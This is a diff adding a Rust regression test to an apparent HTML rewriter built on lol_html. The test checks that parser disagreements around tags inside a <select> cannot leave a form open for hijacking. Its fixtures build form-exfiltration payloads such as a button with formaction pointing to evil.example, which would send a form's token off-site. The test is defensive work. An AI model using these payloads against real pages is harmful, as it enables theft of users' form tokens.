@@ -903,6 +903,56 @@ fn a_tag_lol_html_cannot_write_back_goes_where_it_must_change() {
     assert_eq!(pages, 40);
 }
 
+/// A start tag that some reading takes out of a `<select>` (table parts in the relaxed
+/// parser; `<input>`, `<keygen>`, `<textarea>` in the "in select" mode): the browser then
+/// ignores the `</select>` after it, where lol_html pops what the browser keeps open. In
+/// `<form method=post><select><table></select></form><button formaction=//evil.example/>` the
+/// table stays open, `</form>` is ignored (its form out of scope), and the button sent the
+/// form's token away (found by `rewrite_pieces`). Swept: the tags, what closes the form, what
+/// follows, both link modes, streamed, held whole and on the plain path.
+#[test]
+fn a_tag_some_reading_takes_out_of_a_select_leaves_forms_in_doubt() {
+    let closers = [
+        "<table>",
+        "<table><tr><td>",
+        "<caption>",
+        "<tbody>",
+        "<tr>",
+        "<td>",
+        "<th>",
+        "<input>",
+        "<keygen>",
+        "<textarea></textarea>",
+    ];
+    let ends = ["</select></form>", "</select></form></table>", "</form>"];
+    let tails = [
+        "<button formaction=https://evil.example/>go</button>",
+        "<input type=submit formaction=//evil.example/i>",
+        "<form method=post action=/y><input name=b></form>",
+    ];
+    let mut pages = 0;
+    for closer in closers {
+        for end in ends {
+            for tail in tails {
+                let page = format!(
+                    "<form method=post action=/x><input name=a><select>{closer}{end}{tail}"
+                );
+                for use_get in [false, true] {
+                    let cut = [page.len() / 2];
+                    for verdict in properties::rewrite_verdicts(page.as_bytes(), &cut, use_get) {
+                        assert!(
+                            verdict.leaks.is_empty() && verdict.target_changed.is_none(),
+                            "use_get {use_get}: {page}: {verdict:#?}"
+                        );
+                    }
+                    pages += 1;
+                }
+            }
+        }
+    }
+    assert_eq!(pages, 180);
+}
+
 /// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
 /// reads `</title>` there by the "in body" rules, which stop at the special SVG `<title>` and
 /// ignore the tag, so the page goes on inside it, and a later `<title>` is an HTML one whose
